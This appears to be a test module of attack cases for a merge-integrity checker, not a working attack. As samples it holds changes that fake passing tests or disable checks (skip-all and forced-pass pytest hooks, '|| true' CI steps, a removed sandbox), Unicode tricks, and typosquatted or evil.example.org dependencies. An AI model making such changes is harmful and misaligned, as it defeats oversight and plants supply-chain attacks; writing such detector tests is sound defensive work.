"""Changes of goldens, policy, pipelines, configuration and dependencies that must be stopped."""

from tests.attacks.integrity.cases import CODE, CODE2, REVIEW, Case, files

RUFF = "[tool.ruff.lint]\nselect = ['E', 'S']\nignore = []\n"
MYPY = "[tool.mypy]\nstrict = true\n"
PYTEST = (
    "[tool.pytest.ini_options]\ntestpaths = ['tests']\n"
    "addopts = ['--strict-markers']\nfilterwarnings = ['error']\n"
)
POLICY = "stages:\n  merge:\n    gates: [style, integrity, golden]\nminimum_box: bubblewrap\neffects: {GR101: block}\n"
WORKFLOW = (
    "on: pull_request\njobs:\n  gate:\n    steps:\n      - run: guardrails review\n      - run: pytest\n"
)
GOLDEN = "scenarios:\n  - id: night\n    order: [a, b, c]\n  - id: morning\n    order: [c, b]\n"
MARKING = """
import pytest

def pytest_collection_modifyitems(items):
    for one in items:
        one.add_marker(pytest.mark.skip)
"""
REPORT = """
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    out = yield
    out.get_result().outcome = 'passed'
"""

CASES = (
    files("collect_ignore", "conftest.py", "", "collect_ignore = ['tests/test_rank.py']\n", "GR505"),
    files(
        "deselecting hook",
        "conftest.py",
        "",
        "def pytest_collection_modifyitems(items):\n    del items[:]\n",
        "GR505",
    ),
    files(
        "golden reordered",
        "contracts/np/golden/all.yaml",
        GOLDEN,
        GOLDEN.replace("a, b, c", "b, a, c"),
        "GR506",
        REVIEW,
    ),
    files(
        "scenario deleted",
        "contracts/np/golden/all.yaml",
        GOLDEN,
        GOLDEN.split("  - id: morning", maxsplit=1)[0],
        "GR506",
    ),
    files(
        "golden epsilon",
        "contracts/np/golden/a.yaml",
        "id: a\nepsilon: 0.1\n",
        "id: a\nepsilon: 9\n",
        "GR506",
    ),
    files("golden emptied", "contracts/np/golden/all.yaml", GOLDEN, "scenarios: []\n", "GR506"),
    files(
        "snapshot entry dropped",
        "tests/__snapshots__/test_a.ambr",
        "# name: test_a\n  'x'\n# name: test_b\n  'y'\n",
        "# name: test_a\n  'x'\n",
        "GR506",
    ),
    files("gate removed", "policies/guardrails.yaml", POLICY, POLICY.replace(", golden", ""), "GR507"),
    files("box lowered", "policies/guardrails.yaml", POLICY, POLICY.replace("bubblewrap", "none"), "GR507"),
    files(
        "box line removed",
        "policies/guardrails.yaml",
        POLICY,
        POLICY.replace("minimum_box: bubblewrap\n", ""),
        "GR507",
    ),
    files(
        "effect lowered",
        "policies/guardrails.yaml",
        POLICY,
        POLICY.replace("GR101: block", "GR101: note"),
        "GR507",
    ),
    files(
        "effect override added",
        "policies/guardrails.yaml",
        POLICY,
        POLICY.replace("{GR101: block", "{GR101: block, GR502: note"),
        "GR507",
    ),
    files(
        "disputes allowed", "policies/guardrails.yaml", POLICY, POLICY + "allows_disputes: true\n", "GR507"
    ),
    files("policy made unreadable", "policies/guardrails.yaml", POLICY, POLICY + "]\n", "GR507"),
    files(
        "policy alias bomb",
        "policies/x.yaml",
        "a: 1\n",
        "a: &a [x, x]\nb: &b [[*a, *a], [*a]]\n"
        + "".join(
            f"c{i}: &c{i} [[*{'b' if i == 0 else f'c{i - 1}'}], [*{'b' if i == 0 else f'c{i - 1}'}]]\n"
            for i in range(30)
        ),
        "GR507",
    ),
    Case(
        "policy deleted", {"app/rank.py": CODE, "policies/a.yaml": "a: 1\n"}, {"app/rank.py": CODE2}, "GR507"
    ),
    files(
        "budget loosened alone",
        "policies/budgets.yaml",
        "rank: {p99_ms: 50}\n",
        "rank: {p99_ms: 80}\n",
        "GR507",
        REVIEW,
        code=False,
    ),
    files("baseline grown", "policies/baseline.json", "[]", '["abc"]', "GR518"),
    files("approver added", "policies/approvers", "ann\n", "ann\nbot\n", "GR518"),
    files("first policy", "policies/guardrails.yaml", "", POLICY, "GR517", REVIEW),
    files("owner added", "CODEOWNERS", "* @ann\n", "* @ann @bot\n", "GR516", REVIEW),
    files(
        "ruff ignores all", "pyproject.toml", RUFF, RUFF.replace("ignore = []", "ignore = ['ALL']"), "GR508"
    ),
    files("ruff table removed", "pyproject.toml", RUFF, "[project]\nname = 'a'\n", "GR508"),
    files("mypy relaxed", "pyproject.toml", MYPY, MYPY.replace("true", "false"), "GR508"),
    files("testpaths narrowed", "pyproject.toml", PYTEST, PYTEST.replace("'tests'", "'tests/fast'"), "GR508"),
    files(
        "deselected by option",
        "pyproject.toml",
        PYTEST,
        PYTEST.replace("'--strict-markers'", "'--strict-markers', '--deselect=tests/test_rank.py'"),
        "GR508",
        REVIEW,
    ),
    files(
        "warnings silenced",
        "pyproject.toml",
        PYTEST,
        PYTEST.replace("['error']", "['ignore']"),
        "GR508",
        REVIEW,
    ),
    files("configuration broken", "pyproject.toml", PYTEST, "[tool\n", "GR508", REVIEW),
    files("higher ini wins", "pytest.ini", "", "[pytest]\naddopts = --collect-only\n", "GR508"),
    files(
        "or true", ".github/workflows/ci.yml", WORKFLOW, WORKFLOW.replace("review", "review || true"), "GR509"
    ),
    files(
        "continue on error",
        ".github/workflows/ci.yml",
        WORKFLOW,
        WORKFLOW + "        continue-on-error: true\n",
        "GR509",
    ),
    files(
        "target trigger",
        ".github/workflows/ci.yml",
        WORKFLOW,
        WORKFLOW.replace("pull_request", "pull_request_target"),
        "GR509",
    ),
    Case(
        "workflow deleted",
        {".github/workflows/ci.yml": WORKFLOW, "app/rank.py": CODE},
        {"app/rank.py": CODE2},
        "GR509",
    ),
    files(
        "step commented out",
        ".github/workflows/ci.yml",
        WORKFLOW,
        WORKFLOW.replace("      - run: guardrails", "      # - run: guardrails"),
        "GR509",
    ),
    files("make ignores failure", "Makefile", "test:\n\tpytest\n", "test:\n\t-pytest\n", "GR509"),
    files(
        "makereport",
        "conftest.py",
        "",
        REPORT,
        "GR510",
    ),
    files(
        "patched raises",
        "tests/conftest.py",
        "",
        "import pytest\npytest.raises = lambda *a, **k: None\n",
        "GR510",
    ),
    files(
        "setattr on TestReport",
        "tests/conftest.py",
        "",
        "from _pytest.reports import TestReport\nsetattr(TestReport, 'failed', False)\n",
        "GR510",
    ),
    files("exit in product", "app/exit.py", "", "import os\n\ndef done():\n    os._exit(0)\n", "GR510"),
    files(
        "exit under an alias",
        "app/exit.py",
        "",
        "from os import _exit as leave\n\ndef done():\n    leave(0)\n",
        "GR510",
    ),
    files("excepthook", "app/exit.py", "", "import sys\nsys.excepthook = lambda *a: None\n", "GR510"),
    files(
        "exit status",
        "conftest.py",
        "",
        "def pytest_sessionfinish(session):\n    session.exitstatus = 0\n",
        "GR510",
    ),
    files("pth file", "app/run.pth", "", "import os\n", "GR510"),
    files("bidi", "app/x.py", "", "a = 1  # \u202e\n", "GR511"),
    files("homoglyph", "app/x.py", "", "\u0430dmin = 1\n", "GR511"),
    files("zero width in a name", "app/x.py", "", "ad\u200bmin = 1\n", "GR511"),
    files("code pushed aside", "app/x.py", "", "a = 1" + " " * 300 + "; import os\n", "GR511"),
    files("diff hidden", ".gitattributes", "", "app/** linguist-generated\n", "GR511"),
    files("token", "app/x.py", "", "T = 'ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'\n", "GR513"),
    files(
        "private key",
        "deploy/key.pem",
        "",
        "-----BEGIN " + "PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEA\n",
        "GR513",
    ),
    files(
        "new index",
        "requirements.txt",
        "flask==1\n",
        "--index-url https://evil.example.org/simple\nflask==1\n",
        "GR514",
    ),
    files(
        "direct address",
        "requirements.txt",
        "flask==1\n",
        "flask @ https://evil.example.org/f.whl\n",
        "GR514",
    ),
    files(
        "from git",
        "pyproject.toml",
        "[project]\ndependencies = ['flask']\n",
        "[project]\ndependencies = ['flask', 'x @ git+https://example.org/x']\n",
        "GR514",
    ),
    files("near name", "requirements.txt", "requests==2\n", "requests==2\nreqeusts==1\n", "GR514"),
    files("hash dropped", "requirements.txt", "a1==1 --hash=sha256:aa\n", "a1==1\n", "GR514"),
    files("new package", "requirements.txt", "flask==1\n", "flask==1\nleftpadder==1\n", "GR514", REVIEW),
    files("scratch script", "reproduce.py", "", "print(1)\n", "GR515", REVIEW),
    files(
        "marking hook",
        "conftest.py",
        "",
        MARKING,
        "GR505",
    ),
    files(
        "requirements from an address",
        "requirements.txt",
        "flask==1\n",
        "flask==1\n-r https://evil.example.org/r.txt\n",
        "GR514",
    ),
    files(
        "source of a package",
        "pyproject.toml",
        "[project]\nname = 'a'\n",
        "[project]\nname = 'a'\n[tool.uv.sources]\nflask = {git = 'https://evil.example.org/f'}\n",
        "GR514",
    ),
    files(
        "dependency in a script",
        "setup.py",
        "setup(install_requires=['flask'])\n",
        "setup(install_requires=['flask', 'flaks'])\n",
        "GR514",
    ),
)
